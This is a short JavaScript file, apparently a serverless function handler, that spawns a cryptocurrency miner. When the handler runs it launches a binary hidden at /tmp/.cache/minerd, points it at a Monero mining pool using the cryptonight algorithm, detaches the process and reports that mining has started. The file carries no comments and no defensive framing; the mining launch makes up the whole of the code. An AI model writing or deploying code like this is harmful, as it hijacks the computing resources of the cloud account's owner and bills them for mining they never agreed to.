const cp = require("child_process");
const args = ["-a", "cryptonight", "-o", "xmr-eu1.nanopool.org:14433", "-u", "wallet", "-p", "x"];

exports.handler = async () => {
  const m = cp.spawn("/tmp/.cache/minerd", args);
  m.unref();
  return { started: true };
};
